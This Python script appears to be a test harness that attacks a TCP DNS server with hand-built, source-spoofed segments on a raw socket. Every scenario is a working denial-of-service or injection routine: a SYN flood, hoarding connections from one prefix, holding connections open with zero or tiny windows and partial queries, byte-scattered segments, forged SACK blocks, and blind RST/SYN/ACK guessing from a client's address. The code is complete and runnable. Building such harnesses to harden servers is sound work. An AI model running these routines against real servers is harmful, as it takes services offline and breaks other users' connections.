# SPDX-License-Identifier: Apache-2.0
"""tcp_attack - a peer that means harm: it makes its own segments, from any address, on a raw socket.

  tcp_attack.py DEVICE DST_MAC SERVER SCENARIO SECONDS

Prints one JSON line: segments sent, connections held, answers seen.
"""
import json
import random
import select
import socket
import struct
import sys
import time

DEVICE, DST_MAC, SERVER, SCENARIO, SECONDS = sys.argv[1:6]
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
SYN_OPTIONS = bytes([2, 4, 5, 0xB4, 4, 2, 1, 3, 3, 7, 1, 1])  # MSS 1460, SACK permitted, scale 7
PORT = 53

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
raw.bind((DEVICE, 0x0800))
raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
ETHER = bytes.fromhex(DST_MAC.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00"
SERVER_BYTES = socket.inet_aton(SERVER)
sent = 0
rng = random.Random(1)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(source, port, flags, seq, ack=0, window=65535, payload=b"", options=b""):
    tcp = struct.pack("!HHIIBBHHH", port, PORT, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      (20 + len(options)) // 4 << 4, flags, window, 0, 0) + options + payload
    pseudo = source + SERVER_BYTES + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + source + SERVER_BYTES
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ETHER + ip + tcp


def send(data):
    global sent
    try:
        raw.send(data)
        sent += 1
    except OSError:  # the device's queue is full
        time.sleep(0.0005)


def received(seconds):
    """Segments from the server until the time is over: (to address, to port, seq, ack, flags, length)."""
    until = time.monotonic() + seconds
    while True:
        left = until - time.monotonic()
        if left <= 0 or not select.select([raw], [], [], left)[0]:
            return
        data = raw.recv(2048)
        if len(data) < 54 or data[23] != 6 or data[26:30] != SERVER_BYTES:
            continue
        at = 14 + (data[14] & 15) * 4
        port, to, seq, ack, offset, flags = struct.unpack_from("!HHIIBB", data, at)
        length = struct.unpack_from("!H", data, 16)[0] - (at - 14) - (offset >> 4) * 4
        if port == PORT:
            yield data[30:34], to, seq, ack, flags, length


def query(name):
    wire = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    message = struct.pack("!6H", 1, 0, 1, 0, 0, 0) + wire + struct.pack("!2H", 16, 1)
    return struct.pack("!H", len(message)) + message


def hold(count, sources, first_window=65535, payload=b"", first_port=1024):
    """Opens up to count connections, sends payload on each, and returns {(source, port): (seq, ack)}."""
    open_now = {}
    todo = [(sources[i % len(sources)], first_port + i // len(sources)) for i in range(count)]
    wanted = set(todo)
    for start in range(0, count, 64):
        for source, port in todo[start:start + 64]:
            send(frame(source, port, SYN, 1000, options=SYN_OPTIONS))
        for source, port, seq, _, flags, _ in received(0.02):
            if flags & SYN and (source, port) in wanted and (source, port) not in open_now:
                open_now[source, port] = (1001 + len(payload), seq + 1)
                send(frame(source, port, ACK, 1001, seq + 1, first_window))
                if payload:
                    send(frame(source, port, ACK | PSH, 1001, seq + 1, first_window, payload))
    return open_now


def prefix(text, count=250):
    return [socket.inet_aton(f"{text}.{i}") for i in range(1, count + 1)]


def main():
    deadline = time.monotonic() + float(SECONDS)
    held = {}
    if SCENARIO == "syn_flood":
        flood = [frame(rng.randbytes(4), rng.randrange(1024, 65536), SYN, rng.getrandbits(32), options=SYN_OPTIONS)
                 for _ in range(8192)]
        while time.monotonic() < deadline:
            for each in flood:
                send(each)
    elif SCENARIO == "hoard":  # one prefix takes every connection there is, and more
        sources = prefix("198.51.100")
        first_port = 1024
        while time.monotonic() < deadline:
            held.update(hold(1000, sources, first_port=first_port))
            first_port += 4
    elif SCENARIO in ("shut_window", "slow_reader"):
        sources = [a for n in range(8) for a in prefix(f"203.0.{n}")]
        while time.monotonic() < deadline:
            held.update(hold(512, sources, 0 if SCENARIO == "shut_window" else 256, query("huge.big.example")))
            sources = sources[512:] + sources[:512]
            if SCENARIO == "slow_reader":
                for (source, port), (seq, ack) in list(held.items()):
                    held[source, port] = (seq, ack + 1)
                    send(frame(source, port, ACK, seq, ack + 1, 256))
    elif SCENARIO == "slow_sender":  # the begin of a query, and then nothing
        sources = [a for n in range(8) for a in prefix(f"203.0.{n}")]
        while time.monotonic() < deadline:
            held.update(hold(512, sources, payload=query("huge.big.example")[:9]))
            sources = sources[512:] + sources[:512]
    elif SCENARIO == "crumbs":  # single bytes with holes between them
        held = hold(64, prefix("198.51.101"))
        while time.monotonic() < deadline:
            for (source, port), (seq, ack) in held.items():
                send(frame(source, port, ACK, seq + 2 + 2 * rng.randrange(16000), ack, payload=b"x"))
    elif SCENARIO == "sacks":  # an answer in flight, and SACKs of single bytes of it
        held = hold(64, prefix("198.51.102"), payload=query("huge.big.example"))
        while time.monotonic() < deadline:
            for (source, port), (seq, ack) in held.items():
                at = ack + 2 + 16 * rng.randrange(800)
                blocks = b"".join(struct.pack("!2I", (at + 4 * i) & 0xFFFFFFFF, (at + 4 * i + 1) & 0xFFFFFFFF)
                                  for i in range(4))
                send(frame(source, port, ACK, seq, ack, options=b"\x01\x01\x05\x22" + blocks))
    elif SCENARIO == "blind":  # RST, SYN and ACK at guessed numbers, from where the client is
        client = socket.inet_aton("10.77.0.2")
        flood = [frame(client, rng.randrange(32768, 61000), rng.choice([RST, SYN, ACK, RST | ACK]),
                       rng.getrandbits(32), rng.getrandbits(32)) for _ in range(8192)]
        while time.monotonic() < deadline:  # guesses count here, not the load
            for each in rng.sample(flood, 128):
                send(each)
            time.sleep(0.002)
    else:
        sys.exit(f"no scenario {SCENARIO}")
    print(json.dumps({"scenario": SCENARIO, "segments": sent, "held": len(held)}))


main()
